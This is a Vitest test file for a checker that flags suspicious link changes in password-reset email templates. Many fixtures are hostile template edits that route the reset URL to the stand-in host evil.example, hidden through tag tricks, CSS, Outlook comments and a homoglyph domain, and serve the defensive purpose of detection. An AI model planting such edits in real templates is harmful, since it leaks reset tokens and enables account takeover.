import { describe, expect, it } from 'vitest';
import { checkTemplate } from '../../src/mail/checks.js';
import { changedLinks } from '../../src/mail/links.js';
import { serverMail } from '../../src/mail/servers.js';

/** The changed links of one body, with `!` before suspicious ones. */
function changes(body: 'txt' | 'html', before: string | null, after: string): string[] {
  return changedLinks({ [body]: before }, { [body]: after }).map(
    ({ from, to, isSuspicious }) => `${isSuspicious ? '! ' : ''}${from} → ${to}`,
  );
}

const mail = serverMail('boruta', 'reset_password_instructions');

const link = (address: string): string => `<p><a href="${address}">Go on</a></p>`;

describe('the links of an email', () => {
  const evil = 'https://evil.example/?u={{ url }}';
  const seen = link('{{ url }}');

  it.each([
    // The server's address as part of another one.
    ['{{ url }}', evil, true],
    ['{{ url }}', '?u={{ url }}', true],
    // Another host.
    ['https://a.example/x', 'https://b.example/x', true],
    ['https://a.example/x', 'https:\\\\b.example/x', true],
    ['https://a.example', 'https://a.example@b.example', true],
    ['{{ base }}/reset', '{{ base }}.b.example/reset', true],
    ['mailto:me@a.example', 'mailto:me@b.example', true],
    // The same host.
    ['https://a.example/x', 'https://A.example/y', false],
    ['{{ base }}/x', '{{ base }}/y', false],
    ['mailto:me@a.example', 'mailto:you@a.example', false],
  ])('%s, then %s, leads elsewhere: %s', (from, to, elsewhere) => {
    expect(changes('html', link(from), link(to))).toEqual([`${elsewhere ? '! ' : ''}${from} → ${to}`]);
  });

  const outlook = (href: string): string =>
    `<!--[if mso]><v:roundrect href="${href}"></v:roundrect><![endif]--><!--[if !mso]><!-->${seen}<!--<![endif]-->`;
  const stolen = 'https://evil.example/?{{ url }}';

  it.each<[string, string, string[]]>([
    [link('{{url}}'), link('{{{ url }}}@evil.example'), ['! {{ url }} → {{ url }}@evil.example']],
    [seen, `${seen}<img src="https://evil.example/{{& url }}">`, ['! null → https://evil.example/{{ url }}']],
    [seen, `{{=<% %>=}}${link('https://evil.example/?<% url %>')}`, [`! {{ url }} → ${stolen}`]],
    [outlook('{{ url }}'), outlook(stolen), [`! {{ url }} → ${stolen}`]],
    ['<form action="https://a.b">', '<form action="https://c.d">', ['! https://a.b → https://c.d']],
    // No link changes.
    [seen, `<h1>Hi {{ name }}</h1>${link(' {{{url}}} ')}`, []],
    [link('a') + link('b'), link('b') + link('a'), []],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,BBBB">', []],
    [seen, '<p>gone</p>', ['{{ url }} → null']],
  ])('%j, then %j', (before, after, expected) => {
    expect(changes('html', before, after)).toEqual(expected);
  });

  it.each<[string, string, string[]]>([
    ['Open {{ url }} now.', `Open ${evil} now.`, [`! {{ url }} → ${evil}`]],
    [
      'Open: ({{ my_url }}).',
      'Open evil.example?{{ my_url }}',
      ['! {{ my_url }} → evil.example?{{ my_url }}'],
    ],
    ['See https://a.example.', 'See https://b.example!', ['! https://a.example → https://b.example']],
    ['Link:{{ user.resetUrl }}', 'Link: <{{ user.resetUrl }}>,', []],
    [
      'Hi {{ name }}',
      'Hi, see https://a.example/?n={{ name }}',
      ['! null → https://a.example/?n={{ name }}'],
    ],
    ['https://a.example', 'https://a.example, again: https://a.example/x', ['null → https://a.example/x']],
    ['Hi', 'Hi, see www.evil.example', ['! null → www.evil.example']],
  ])('as text %j, then %j', (before, after, expected) => {
    expect(changes('txt', before, after)).toEqual(expected);
  });

  it.each([
    '{{#user}}Hi {{ url }}{{/user}}',
    '{{ url }}{{! comment }}',
    '{{^ user.group }}Hi{{/ user.group }}{{ url }}',
    '({{#user}}{{ url }}{{/user}})',
  ])('in a text lead to the same place with other tags around them: %s', (after) => {
    expect(checkTemplate({ before: { txt: 'Link: {{ url }}' }, after: { txt: after }, mail })).toEqual([]);
  });

  it.each<[string, string[]]>([
    ['{{#a}}https://evil.example/?u={{/a}}{{ url }}', ['! {{ url }} → https://evil.example/?u={{ url }}']],
    ['{{ url }}{{^a}}.evil.example{{/a}}', ['! {{ url }} → {{ url }}.evil.example']],
    ['evil-{{! c }}{{ url }}', ['! {{ url }} → evil-{{ url }}']],
    ['{{#a}}{{ url }}{{/a}}{{^a}}https://evil.example{{/a}}', ['! null → https://evil.example']],
  ])('lead elsewhere with what a tag separates from them: %s', (after, expected) => {
    expect(changes('txt', '{{ url }}', after)).toEqual(expected);
    expect(changes('html', link('{{ url }}'), link(after))).toEqual(expected);
    expect(changes('html', link('{{ url }}'), link(after).replaceAll('"', ''))).toEqual(expected);
  });

  it.each([`<a {{#a}}href="${evil}"{{/a}}>`, `<p style="background:{{#a}}url(${evil}){{/a}}">`])(
    'are found beside tags: %s',
    (body) => {
      expect(changes('html', seen, `${seen}${body}`)).toEqual([`! null → ${evil}`]);
    },
  );

  it.each<[string, (url: string) => string]>([
    ['an address in the text', (url) => `<p>${url}</p>`],
    ['a refresh', (url) => `<meta http-equiv="refresh" content="5; url=${url}">`],
    ['a ping', (url) => `<a ping="${url}">`],
    ['a source set', (url) => `<img srcset="${url} 2x">`],
    ['a style', (url) => `<p style="background: url('${url}')">`],
    ['an import, escaped', (url) => `<style>@\\69mport "${url}";</style>`],
    ['a set of pictures', (url) => `<p style="--a: image-set('${url}' 1x)">`],
    ['a style sheet', (url) => `<style>p { background: url(${url}) }</style>`],
  ])('are found in %s', (_, body) => {
    expect(changes('html', body('{{ url }}'), body(evil))).toEqual([`! {{ url }} → ${evil}`]);
    expect(changes('html', body('{{ url }}'), body('{{ url }}'))).toEqual([]);
  });

  it('of a new body are compared with those of the other body', () => {
    const before = { txt: '{{ url }}', html: null };
    const after = {
      txt: '{{ url }}',
      html: link('https://evil.example/{{ url }}') + link('https://a.example'),
    };
    expect(changedLinks(before, after)).toMatchObject([
      { from: null, to: 'https://evil.example/{{ url }}', isSuspicious: true },
    ]);
    expect(changedLinks({}, after)).toEqual([]);
  });

  it('are identified by the host that browsers see, however long the text before it is', () => {
    expect(changes('html', link('https://acme.example'), link('https://\u0430cme.example'))).toEqual([
      '! https://acme.example → https://\u0430cme.example (at xn--cme-5cd.example)',
    ]);
    expect(changes('html', link('https://{{ host }}/x'), link('https://{{ host }}.b.example/x'))).toEqual([
      '! https://{{ host }}/x → https://{{ host }}.b.example/x',
    ]);
    const [told] = changes(
      'html',
      link('https://a.example'),
      link(`https://a.example.${'a'.repeat(99)}@evil.example`),
    );
    expect(told).toMatch(/^! https:\/\/a\.example → https:\/\/a\.example\.a+… \(at evil\.example\)$/);
  });

  it('that lead elsewhere are reported at their places', () => {
    const start = '<meta charset="utf-8">';
    const after = {
      html: `${start}<p>\n<a href="https://evil.example/?u={{ url }}">x</a></p>`,
      txt: '{{ url }}',
    };
    const before = { html: `${start}<a href="{{ url }}">x</a>`, txt: '{{ url }}' };
    const findings = checkTemplate({ before, after });
    expect(findings).toMatchObject([
      {
        code: 'changed-link',
        body: 'html',
        message: 'the new html body leads elsewhere: {{ url }} → https://evil.example/?u={{ url }}',
      },
    ]);
    const [{ start: from, end } = { start: 0, end: 0 }] = findings[0]?.at?.html ?? [];
    expect(after.html.slice(from, end)).toBe('href="https://evil.example/?u={{ url }}"');
    expect(checkTemplate({ after })).toEqual([]);
  });
});
